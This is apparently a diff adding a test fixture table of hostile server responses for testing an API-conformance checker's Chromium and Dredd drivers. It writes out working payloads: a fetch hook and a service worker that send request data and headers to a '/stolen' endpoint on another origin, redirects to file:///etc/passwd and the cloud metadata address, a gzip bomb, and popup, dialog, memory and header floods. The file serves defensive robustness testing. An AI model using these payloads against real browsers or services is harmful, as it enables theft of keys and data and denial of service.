@@ -1,0 +1,198 @@
+import { gzipSync } from 'node:zlib';
+import { anything } from '../fault-kit/conditions.ts';
+import { changeResponse } from '../fault-kit/responses.ts';
+import type { Scene, Serve, Stage } from './hostile.ts';
+import { hostileTable } from './hostile.ts';
+import {
+  API,
+  answers,
+  BOMB,
+  bytes,
+  choose,
+  drips,
+  endless,
+  forAgent,
+  head,
+  holds,
+  keyOf,
+  over,
+  pours,
+  redirects,
+  resets,
+  sends,
+  withHeaders,
+} from './kit.ts';
+import { PERSON } from './secrets.ts';
+
+const VERDICT = /^(CONFORMANT|NONCONFORMANT|INCOMPLETE)/;
+const JSON_LINE = 'content-type: application/json';
+
+/** What Chromium is answered; every other client meets the reference. */
+function toChromium(serve: Serve, more: Partial<Scene> = {}): Scene {
+  return { ...driven('browser', '--no-dredd'), serves: forAgent(/Chrome/, serve), ...more };
+}
+
+function toDredd(serve: Serve, more: Partial<Scene> = {}): Scene {
+  return { ...driven('dredd', '--no-browser'), serves: forAgent(/dredd/i, serve), ...more };
+}
+
+function driven(area: string, without: string): Scene {
+  return {
+    command: ({ url }) => ['check', url, '--only', area, without, '--format', 'html,json'],
+    says: VERDICT,
+    within: 150,
+  };
+}
+
+/** The reference, except for the description, which is this page. */
+function page(script: string | ((stage: Stage) => string)): Serve {
+  return choose(
+    ({ url = '' }) => url === `${API}/openapi.json`,
+    answers(
+      200,
+      { 'content-type': 'text/html' },
+      (stage) => `<!doctype html><script>${typeof script === 'string' ? script : script(stage)}</script>`,
+    ),
+  );
+}
+
+function document(serve: Serve): Serve {
+  return choose(({ url = '' }) => url === `${API}/openapi.json`, serve);
+}
+
+function me(serve: Serve): Serve {
+  return choose(({ url = '' }) => url === `${API}/me`, serve);
+}
+
+/** Sends what is asked through fetch in a window to its own origin. */
+const STEAL = `function steal(w) { try { const real = w.fetch; if (real.isHooked) return; w.fetch = (u, o) => { navigator.sendBeacon('/stolen', JSON.stringify(o)); return real(u, o); }; w.fetch.isHooked = true; } catch {} }`;
+
+/** The page of a third origin that hooks fetch, and opens a popup which leads it back. */
+const thief: Serve =
+  ({ url }) =>
+  (request, response) => {
+    response.setHeader('content-type', 'text/html');
+    response.setHeader('access-control-allow-origin', '*');
+    response.setHeader('access-control-allow-headers', '*');
+    const popup = `setInterval(() => steal(opener), 3); setTimeout(() => { opener.location = '${url}${API}/openapi.json'; }, 300);`;
+    const opener = `steal(window); open('/popup'); document.onclick = () => open('/popup');`;
+    response.end(`<!doctype html><script>${STEAL}; ${request.url === '/popup' ? popup : opener}</script>`);
+  };
+
+/** Deployments that are hostile to Chromium alone. */
+export const browserRows = hostileTable`
+  0,1,3 browser-sent-to-a-thief: The description leads to a page that hooks fetch and opens a popup
+    ${toChromium(document(redirects(({ elsewhere }) => `${elsewhere}/thief`)), { elsewhere: thief })}
+  0,1,3 browser-sent-away-with-the-key: The answer to a request with the key leads to another origin
+    ${toChromium(me(redirects(({ elsewhere }) => `${elsewhere}/me`, 307)))}
+  0,1,3 browser-preflight-sent-away: The preflight leads to another origin
+    ${toChromium(
+      choose(
+        ({ method }) => method === 'OPTIONS',
+        redirects(({ elsewhere }) => `${elsewhere}/me`, 307),
+      ),
+    )}
+  0,1,3 browser-endless-download: The description is a file to save that has no end, and /me is slow
+    ${toChromium((stage) => {
+      const [file, slow] = [
+        document(endless('application/octet-stream', '', ['content-disposition: attachment; filename=x']))(stage),
+        me(sends(head([JSON_LINE]), drips(1000)))(stage),
+      ];
+      return (request, response) => (request.url?.endsWith('/me') ? slow : file)(request, response);
+    })}
+  0,1,3 browser-many-downloads: A page saves one file after the other
+    ${toChromium(page(`setInterval(() => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([new Uint8Array(5e6)])); a.download = 'x'; a.click(); }, 20)`))}
+  0,1,3 browser-endless-page: A page without an end
+    ${toChromium(document(endless('text/html', '<!doctype html><p>')))}
+  0,1,3 browser-endless-me: The answer to a request with the key has no end
+    ${toChromium(me(endless('application/json', '{"data":"', ['access-control-allow-origin: *', 'access-control-allow-headers: authorization'])))}
+  0,1,3 browser-bomb: The description is half a gigabyte, packed
+    ${toChromium(document(answers(200, { 'content-encoding': 'gzip', 'content-type': 'text/html' }, BOMB)))}
+  0,1,3 browser-hanging-document: The description never comes
+    ${toChromium(document(holds))}
+  0,1,3 browser-slow-document: The description comes at one byte a second
+    ${toChromium(document(sends(head(['content-type: text/html']), drips(1000))))}
+  0,1,3 browser-loop: The description leads to itself
+    ${toChromium(document(redirects(({ url }) => `${url}${API}/openapi.json`)))}
+  0,1,3 browser-sent-to-a-file: The description leads to a file of this machine
+    ${toChromium(document(redirects('file:///etc/passwd')))}
+  0,1,3 browser-sent-to-metadata: The description leads to the credentials of a cloud machine
+    ${toChromium(document(redirects('http://169.254.169.254/latest/meta-data/')))}
+  0,1,3 browser-popups: A page opens windows as fast as it can
+    ${toChromium(page(`setInterval(() => open('${API}/openapi.json'), 10)`))}
+  0,1,3 browser-dialogs: A page shows one dialog after the other, and another when it is left
+    ${toChromium(page(`onbeforeunload = () => { alert(1); return 'stay'; }; setInterval(() => { alert(1); confirm(2); prompt(3); print(); }, 10)`))}
+  0,1,3 browser-busy-page: A page computes for ever
+    ${toChromium(page('for (;;) {}'))}
+  0,1,3 browser-greedy-page: A page takes all memory that it can get
+    ${toChromium(page('const all = []; setInterval(() => all.push(new Uint8Array(2e7).fill(1)), 10)'))}
+  0,1,3 browser-asks-elsewhere: A page that loads pictures, frames, sockets and pings from another origin
+    ${toChromium(page(({ elsewhere }) => `document.write('<img src=${elsewhere}/i><iframe src=${elsewhere}/f></iframe><link rel=prefetch href=${elsewhere}/p>'); new WebSocket('${elsewhere.replace('http', 'ws')}/w'); navigator.sendBeacon('${elsewhere}/b'); fetch('${elsewhere}/x', { mode: 'no-cors' })`))}
+  0,1,3 browser-leads-on: A page that goes to another origin by itself, and again after that
+    ${toChromium(
+      page(
+        ({ elsewhere }) =>
+          `setTimeout(() => { location = '${elsewhere}/thief'; }, 50); setInterval(() => history.pushState(1, '', '?' + Math.random()), 5)`,
+      ),
+      { elsewhere: thief },
+    )}
+  0,1,3 browser-worker: A page registers a service worker that would answer in place of the deployment
+    ${toChromium(
+      choose(
+        ({ url = '' }) => url.includes('/openapi.json'),
+        (stage) => (request, response) => {
+          const isWorker = request.headers['service-worker'] !== undefined;
+          response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
+          response.setHeader('service-worker-allowed', '/');
+          response.end(
+            isWorker
+              ? `onfetch = (e) => fetch('${stage.elsewhere}/stolen?' + [...e.request.headers])`
+              : `<script>navigator.serviceWorker.register('${API}/openapi.json?sw', { scope: '/' })</script>`,
+          );
+        },
+      ),
+    )}
+  0,1,3 browser-cookies: A thousand cookies with every answer, one with the key
+    ${toChromium(withHeaders((stage) => ({ 'set-cookie': [`key=${keyOf(stage)}`, `${keyOf(stage)}=1`, ...Array.from({ length: 998 }, (_, index) => `c${index}=${'v'.repeat(20)}; Max-Age=9999999`)] })))}
+  0,1,3 browser-status-999: Chromium is answered with 999
+    ${toChromium(bytes(`${head([JSON_LINE, 'content-length: 2'], '999 X')}{}`))}
+  0,1,3 browser-resets: Every connection of Chromium is reset
+    ${toChromium(resets)}
+  0,1,3 browser-refresh-headers: Headers lead on, and name other hosts for later
+    ${toChromium(withHeaders(({ elsewhere }) => ({ refresh: `0; url=${elsewhere}/refreshed`, link: `<${elsewhere}/style.css>; rel=preload; as=style`, 'alt-svc': `h2="${new URL(elsewhere).host}"` })))}
+`;
+
+/** Deployments that are hostile to Dredd alone. */
+export const dreddRows = hostileTable`
+  1,3 dredd-endless-body: Every body goes on for ever
+    ${toDredd(endless())}
+  1,3 dredd-bomb: Every body is half a gigabyte, packed
+    ${toDredd(answers(200, { 'content-encoding': 'gzip' }, BOMB))}
+  1,3 dredd-slow-body: Every body comes at one byte a second
+    ${toDredd(sends(head([JSON_LINE]), drips(1000)), { within: 240 })}
+  1,3 dredd-redirect: Every request is redirected to another origin, with the key in the address
+    ${toDredd(redirects((stage, { url }) => `${stage.elsewhere}${url}?key=${keyOf(stage)}`, 307))}
+  1,3 dredd-header-flood: Headers without an end
+    ${toDredd(sends('HTTP/1.1 200 OK\r\n', pours(Buffer.from('x-flood: 1\r\n'.repeat(5000)))))}
+  1,3 dredd-status-099: Every status is 099
+    ${toDredd(bytes(`${head([JSON_LINE, 'content-length: 2'], '099 X')}{}`))}
+  1,3 dredd-resets: Every connection is reset
+    ${toDredd(resets)}
+  1,3 dredd-continue-storm: 100 Continue for ever
+    ${toDredd(sends('', pours(Buffer.from('HTTP/1.1 100 Continue\r\n\r\n'.repeat(2000)))), { within: 240 })}
+  1,3 dredd-deep-body: Every body is a million lists within each other
+    ${toDredd(answers(200, {}, `{"data":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`))}
+  1,3 dredd-echo: Every body and header repeats the key and a customer
+    ${toDredd((stage) =>
+      over(
+        changeResponse(anything, (response, { request }) => ({
+          ...response,
+          headers: { ...response.headers, 'x-key': keyOf(stage) },
+          body: JSON.stringify({
+            [keyOf(stage)]: PERSON,
+            data: [{ [PERSON.email]: request.headers, [keyOf(stage)]: 1 }],
+          }),
+        })),
+      )(stage),
+    )}
+`;
